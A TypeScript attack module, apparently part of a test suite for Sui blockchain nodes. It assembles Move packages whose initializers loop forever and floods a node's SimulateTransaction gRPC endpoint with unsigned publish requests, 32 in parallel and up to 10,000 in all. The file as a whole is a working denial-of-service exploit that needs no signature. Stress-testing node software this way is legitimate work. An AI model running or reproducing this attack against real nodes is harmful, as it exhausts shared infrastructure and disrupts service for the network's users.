import { once } from 'node:events'
import http from 'node:http'
import { bcs } from '@mysten/sui/bcs'
import { GrpcTypes } from '@mysten/sui/grpc'
import { toBase64 } from '@mysten/sui/utils'
import { assemble } from '../../chain/vm/support/assemble.ts'
import { datatype, type FunctionParts, Handmade, ref, u64 } from '../../chain/vm/support/handmade.ts'
import type { Attack, AttackContext } from '../attack.ts'
import { repeat } from '../support/repeat.ts'

const drop = 2
const zero = `0x${'0'.repeat(64)}`
const std = `0x${'1'.padStart(64, '0')}`
const framework = `0x${'2'.padStart(64, '0')}`

/** Initializers without an end: publishing runs them, and needs nobody's signature when it is only simulated. */
const endless: readonly FunctionParts['code'][] = [
  [['Branch', 0]],
  [['VecPack', 1, 0], 'Pop', ['Branch', 0]],
  [['LdU64', 7n], ['LdU64', 9n], 'Mul', 'Pop', ['Branch', 0]],
]

function endlessModule(code: FunctionParts['code']): Uint8Array {
  const handmade = new Handmade()
  handmade.signature([u64]) // the element type of VecPack
  handmade.module.datatypeHandles.push({
    module: handmade.import(framework, 'tx_context'),
    name: 'TxContext',
    abilities: drop,
    typeParameters: [],
  })
  handmade.function('init', { parameters: [ref(datatype(0), true)], visibility: 'private', code })
  handmade.module.moduleHandles[0]!.address = zero
  return assemble(handmade.module)
}

function requestOf(code: FunctionParts['code']): Uint8Array {
  const publish = { modules: [toBase64(endlessModule(code))], dependencies: [std, framework] }
  const transaction = bcs.TransactionData.serialize({
    V1: {
      kind: { ProgrammableTransaction: { inputs: [], commands: [{ Publish: publish }] } },
      sender: framework,
      gasData: { payment: [], owner: framework, price: 1000, budget: 1_000_000 },
      expiration: { None: true },
    },
  }).toBytes()
  const message = GrpcTypes.SimulateTransactionRequest.toBinary(
    GrpcTypes.SimulateTransactionRequest.create({ transaction: { bcs: { value: transaction } } }),
  )
  const frame = new Uint8Array(5 + message.length)
  new DataView(frame.buffer).setUint32(1, message.length)
  frame.set(message, 5)
  return frame
}

async function post({ target, from, signal }: AttackContext, body: Uint8Array): Promise<void> {
  const url = `${target.rpcUrl}/sui.rpc.v2.TransactionExecutionService/SimulateTransaction`
  const request = http.request(url, {
    method: 'POST',
    localAddress: from,
    agent: false,
    signal,
    headers: { 'content-type': 'application/grpc-web+proto' },
  })
  request.end(body)
  const [response] = (await once(request, 'response', { signal })) as [http.IncomingMessage]
  response.resume()
  await once(response, 'end', { signal })
}

export const attack: Attack = {
  about: "simulates the publishing of packages whose initializers do not end, without anybody's signature",
  async run(context) {
    const bodies = endless.map(requestOf)
    return repeat({ signal: context.signal, parallel: 32, most: 10_000 }, i =>
      post(context, bodies[i % bodies.length]!),
    )
  },
}
